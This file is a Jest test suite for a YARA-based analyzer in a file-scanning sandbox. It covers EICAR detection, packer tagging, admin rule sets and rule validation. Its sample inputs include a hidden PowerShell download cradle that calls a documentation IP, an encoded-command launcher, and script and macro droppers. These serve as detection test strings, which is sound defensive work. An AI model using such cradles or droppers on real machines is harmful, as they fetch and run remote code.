import { signalGroups } from '../signals/scoring';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { identify } from '../identify/identify';
import { MITRE_BY_ID } from '../signals/mitre';
import { scoreFile } from '../signals/scoring';
import { eicar, EICAR_SHA256 } from '../testing/eicar';
import { testEngineOptions } from '../testing/engine-options';
import { AnalyzerResult, EngineOptions, FileContext, Verdict } from '../types';
import { BUNDLED_RULES_DIR, compiledRules, declaredRuleNames, validateYaraSource } from '../yara/yara-compiler';
import { YaraAnalyzer, YaraMatchFact } from './yara.analyzer';


const analyzer = new YaraAnalyzer();
function context(data: Uint8Array, options: EngineOptions = testEngineOptions(), depth = 0): FileContext {
  return {
    data,
    name: 'sample',
    identity: identify(data),
    path: ['sample'],
    depth,
    sha256: createHash('sha256').update(data).digest('hex'),
    options,
    signal: new AbortController().signal,
    extractionBudget: { files: 100, bytes: 1 << 30 },
  };
}
const scan = (data: Uint8Array | string, options?: EngineOptions) => analyzer.analyze(context(typeof data === 'string' ? new Uint8Array(Buffer.from(data)) : data, options));
const yaraFacts = (r: AnalyzerResult) => r.facts!.yara as { matches: YaraMatchFact[]; ruleNames: string[]; qualifiedRuleNames: string[]; rulesets: { namespace: string; rules: number; error?: string }[] };
const ruleNames = (r: AnalyzerResult) => yaraFacts(r).ruleNames;

describe('YaraAnalyzer', () => {
  it('detects the EICAR test file as malicious, naming the rule', async () => {
    const data = eicar();
    expect(createHash('sha256').update(data).digest('hex')).toBe(EICAR_SHA256);
    const result = await scan(data);
    expect(ruleNames(result)).toEqual(['EICAR_Test_File']);
    expect(yaraFacts(result).qualifiedRuleNames).toEqual(['bundled:EICAR_Test_File']);
    const [hit] = result.signals!;
    expect(hit).toMatchObject({ id: 'yara.match', verdict: Verdict.Malicious, description: 'EICAR anti-malware test file (YARA rule EICAR_Test_File)' });
    expect(hit.evidence[0]).toBe('rule bundled:EICAR_Test_File');
    expect(hit.evidence).toContain('$middle at 0x1c (35 bytes): EICAR-STANDARD-ANTIVIRUS-TEST-FILE!');
    expect(scoreFile(result.signals!, result.issues!, true).verdict).toBe(Verdict.Malicious);
    const match = yaraFacts(result).matches[0];
    expect(match).toMatchObject({ rule: 'EICAR_Test_File', namespace: 'bundled', meta: { verdict: 'malicious', author: 'sandbox engine' } });
    expect(match.strings.map((s) => s.identifier).sort()).toEqual(['$middle', '$start']);
  });

  it('follows the EICAR definition: trailing whitespace allowed, not inside a larger file', async () => {
    expect(ruleNames(await scan(new Uint8Array([...eicar(), 0x20, 0x0d, 0x0a])))).toEqual(['EICAR_Test_File']);
    expect(ruleNames(await scan(new Uint8Array([...Buffer.alloc(200, 0x41), ...eicar()])))).toEqual([]);
  });

  it('keeps the bundled rule files free of the complete EICAR string', () => {
    const whole = Buffer.from(eicar()).toString('latin1');
    for (const file of readdirSync(BUNDLED_RULES_DIR)) expect(readFileSync(join(BUNDLED_RULES_DIR, file), 'latin1')).not.toContain(whole);
  });

  it('reports UPX-packed executables as informational (clamav-testfiles clam-upx.exe)', async () => {
    const result = await scan(new Uint8Array(readFileSync('/usr/share/clamav-testfiles/clam-upx.exe')));
    expect(ruleNames(result)).toEqual(['PE_Packed_UPX']);
    expect(result.signals![0]).toMatchObject({ verdict: Verdict.Informational, strength: 0.3 });
    expect(result.signals![0].mitre).toEqual(['T1027.002']);
    expect(result.tags).toEqual(expect.arrayContaining(['packer', 'upx']));
  });

  it.each([
    ['PowerShell_Download_Cradle', "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\""],
    ['PowerShell_Encoded_Command', `cmd /c powershell.exe -NoProfile -enc ${Buffer.from('Write-Output "just a test of the rule"', 'utf16le').toString('base64')}`],
    ['PowerShell_Encoded_Command', "$s = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b)); Invoke-Expression $s"],
    ['Script_Dropper_Shell_Run', 'var sh = new ActiveXObject("WScript.Shell");\nsh.Run("cmd.exe /c calc.exe", 0, false);'],
    ['Script_Dropper_ADODB_SaveToFile', 'Set x = CreateObject("MSXML2.XMLHTTP")\nSet s = CreateObject("ADODB.Stream")\ns.Open\ns.Type = 1\ns.Write x.responseBody\ns.SaveToFile "C:\\Users\\Public\\a.exe", 2'],
    ['Office_AutoExec_Macro_Shell', 'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n    Shell "cmd.exe /c calc.exe", vbHide\r\nEnd Sub\r\n'],
  ])('bundled rule %s matches its pattern', async (rule, text) => {
    const result = await scan(text);
    expect(ruleNames(result)).toContain(rule);
    expect(result.signals!.find((s) => s.description?.includes(rule))!.verdict).toBe(Verdict.Suspicious);
  });

  it('matches an OLE document carrying a VBA project with an auto-exec macro', async () => {
    const ole = Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.alloc(504),
      Buffer.from('_VBA_PROJECT', 'utf16le'),
      Buffer.alloc(64),
      Buffer.from('\x00Attribut\x00e VB_Nam\x00e = "ThisDocument"\x00Document_Open\x00CreateObject("WScript.Shell").Run "calc"'),
    ]);
    const result = await scan(new Uint8Array(ole));
    expect(ruleNames(result)).toContain('Office_AutoExec_Macro_Shell');
    expect(result.tags).toEqual(expect.arrayContaining(['macro', 'office']));
  });

  it('matches nothing in ordinary files', async () => {
    for (const file of ['clam.exe', 'clam.pdf', 'clam.ole.doc', 'clam.zip']) {
      const result = await scan(new Uint8Array(readFileSync(join('/usr/share/clamav-testfiles', file))));
      expect({ file, rules: ruleNames(result) }).toEqual({ file, rules: [] });
      expect(result.issues).toEqual([]);
    }
    expect(ruleNames(await scan('Set the shell on the table, then run to the store.'))).toEqual([]);
  });

  it('runs an admin rule set in its own namespace with its meta', async () => {
    const source = 'rule Acme_Marker : acme { meta: verdict = "likely_malicious" description = "ACME campaign marker" mitre = "T1105" strings: $m = "ACME-CAMPAIGN-42" condition: $m }';
    const options = testEngineOptions({ yaraRuleSets: [{ name: 'acme', source }] });
    const result = await scan('payload ... ACME-CAMPAIGN-42 ... end', options);
    expect(yaraFacts(result).qualifiedRuleNames).toEqual(['acme:Acme_Marker']);
    expect(result.signals![0]).toMatchObject({ verdict: Verdict.LikelyMalicious, strength: 0.8, description: 'ACME campaign marker (YARA rule Acme_Marker)' });
    expect(result.signals![0].evidence).toEqual(['rule acme:Acme_Marker', '$m at 0xc (16 bytes): ACME-CAMPAIGN-42']);
    expect(result.signals![0].mitre).toEqual(['T1105']);
    // The signal group of the report lists the rule's technique.
    expect(signalGroups(result.signals!)[0].allMitreTechniques).toEqual([{ ID: 'T1105', name: 'Ingress Tool Transfer', tactics: ['command-and-control'] }]);
    expect(result.tags).toEqual(['acme']);
    expect(yaraFacts(result).rulesets).toEqual([{ namespace: 'bundled', rules: expect.any(Number) }, { namespace: 'acme', rules: 1 }]);
  });

  it('records an issue for a broken admin set and still runs the bundled rules', async () => {
    const options = testEngineOptions({ yaraRuleSets: [{ name: 'broken', source: 'rule Broken { strings: $a = "x" condition: $b }' }] });
    const result = await scan(eicar(), options);
    expect(ruleNames(result)).toEqual(['EICAR_Test_File']);
    expect(result.issues).toEqual([{ analyzer: 'yara', kind: 'error', message: expect.stringMatching(/^YARA rule set "broken" does not compile and was not run: .*unknown pattern `\$b`/) }]);
    expect(yaraFacts(result).rulesets[1]).toMatchObject({ namespace: 'broken', rules: 0, error: expect.any(String) });
  });

  it('escapes binary matches in previews and bounds them', async () => {
    const source = 'rule Bin { strings: $h = { 00 01 02 FF 5C } $long = /A{100}/ condition: all of them }';
    const data = new Uint8Array([0, 1, 2, 0xff, 0x5c, ...Buffer.alloc(120, 0x41)]);
    const result = await scan(data, testEngineOptions({ yaraRuleSets: [{ name: 'bin', source }] }));
    const strings = yaraFacts(result).matches[0].strings;
    expect(strings.find((s) => s.identifier === '$h')!.preview).toBe('\\x00\\x01\\x02\\xff\\\\');
    expect(strings.find((s) => s.identifier === '$long')!.preview).toBe(`${'A'.repeat(48)}…`);
  });

  it('compiles a combination of rule sets once, until one of them changes', () => {
    const sets = [{ name: 'one', source: 'rule One { condition: filesize == 1 }' }];
    const first = compiledRules(sets);
    expect(compiledRules([{ ...sets[0] }])).toBe(first);
    const changed = compiledRules([{ name: 'one', source: 'rule One { condition: filesize == 2 }' }]);
    expect(changed).not.toBe(first);
    expect(changed.sets[0]).toBe(first.sets[0]); // the bundled set is not compiled again
  });

  it('follows inputFileYara for the submitted file and extractedFilesYara for extracted ones', () => {
    const data = eicar();
    expect(analyzer.appliesTo(context(data, testEngineOptions({ inputFileYara: false }), 0))).toBe(false);
    expect(analyzer.appliesTo(context(data, testEngineOptions({ inputFileYara: false }), 1))).toBe(true);
    expect(analyzer.appliesTo(context(data, testEngineOptions({ extractedFilesYara: false }), 1))).toBe(false);
    expect(analyzer.appliesTo(context(data, testEngineOptions({ extractedFilesYara: false }), 0))).toBe(true);
    expect(analyzer.appliesTo(context(new Uint8Array(0)))).toBe(false);
  });
});

describe('validateYaraSource', () => {
  it('accepts a valid source and lists its rules', () => {
    const source = '/* rule Commented { condition: true } */\nimport "pe"\nprivate rule Helper { condition: pe.is_pe }\nglobal rule G { condition: filesize > 0 }\nrule Main : tag { meta: s = "rule Fake" strings: $a = "rule x" condition: Helper and $a }';
    expect(validateYaraSource(source)).toEqual({ valid: true, errors: [], warnings: [], ruleNames: ['Helper', 'G', 'Main'] });
  });

  it('reports syntax and semantic errors with their position', () => {
    const result = validateYaraSource('rule Bad {\n  strings:\n    $a = "unterminated\n  condition:\n    $a\n}');
    expect(result.valid).toBe(false);
    expect(result.errors[0]).toMatch(/error\[E\d+\].*\n.*line:3/);
    const unknown = validateYaraSource('rule X { condition: no_such_identifier }');
    expect(unknown).toMatchObject({ valid: false, ruleNames: ['X'] });
    expect(unknown.errors[0]).toMatch(/unknown identifier `no_such_identifier`/);
  });

  it('rejects empty sources and sources without rules; passes warnings on', () => {
    expect(validateYaraSource('   ')).toMatchObject({ valid: false, errors: ['the rule source is empty'] });
    expect(validateYaraSource('import "pe"\n// nothing else')).toMatchObject({ valid: false, errors: ['the rule source declares no rules'] });
    const warned = validateYaraSource('rule W { condition: true }');
    expect(warned.valid).toBe(true);
    expect(warned.warnings[0]).toMatch(/invariant/);
  });

  it('refuses include statements (they would read and quote files of the worker)', () => {
    const result = validateYaraSource('include "/etc/hostname"\nrule A { condition: filesize > 0 }');
    expect(result.valid).toBe(false);
    expect(result.errors[0]).toMatch(/include statements not allowed/);
    expect(compiledRules([{ name: 'inc', source: 'include "/etc/hostname"\nrule A { condition: true }' }]).sets[1]).toMatchObject({ scanner: null, error: expect.stringMatching(/include statements not allowed/) });
  });

  it('finds rule names without being fooled by comments and strings', () => {
    expect(declaredRuleNames('// rule A {}\nrule B { meta: d = "rule C" condition: true }\n/* rule D */ rule E{condition:true}')).toEqual(['B', 'E']);
  });
});

describe('bundled rules', () => {
  it('compile with YARA-X without warnings other than the EICAR hex pattern', () => {
    for (const file of readdirSync(BUNDLED_RULES_DIR)) {
      const result = validateYaraSource(readFileSync(join(BUNDLED_RULES_DIR, file), 'utf8'));
      expect({ file, errors: result.errors }).toEqual({ file, errors: [] });
      expect(result.warnings.filter((w) => !/text_as_hex/.test(w))).toEqual([]);
    }
  });

  it('name only ATT&CK techniques the catalogue knows, and declare a verdict and a description', () => {
    for (const file of readdirSync(BUNDLED_RULES_DIR)) {
      const source = readFileSync(join(BUNDLED_RULES_DIR, file), 'utf8');
      for (const [, id] of source.matchAll(/\bmitre = "([^"]+)"/g)) expect({ file, id, known: MITRE_BY_ID.has(id) }).toEqual({ file, id, known: true });
      const rules = declaredRuleNames(source).length;
      expect(source.match(/\bverdict = "(malicious|likely_malicious|suspicious|informational)"/g)).toHaveLength(rules);
      expect(source.match(/\bdescription = "/g)).toHaveLength(rules);
    }
  });

  const yarac = '/usr/bin/yarac';
  (existsSync(yarac) ? it : it.skip)("compile with Debian's YARA 4 too", () => {
    const out = mkdtempSync(join(tmpdir(), 'yarac-'));
    try {
      for (const file of readdirSync(BUNDLED_RULES_DIR)) {
        const run = spawnSync(yarac, [join(BUNDLED_RULES_DIR, file), join(out, `${file}.bin`)], { encoding: 'utf8' });
        expect({ file, status: run.status, stderr: run.stderr }).toEqual({ file, status: 0, stderr: '' });
      }
    } finally {
      rmSync(out, { recursive: true, force: true });
    }
  });
});
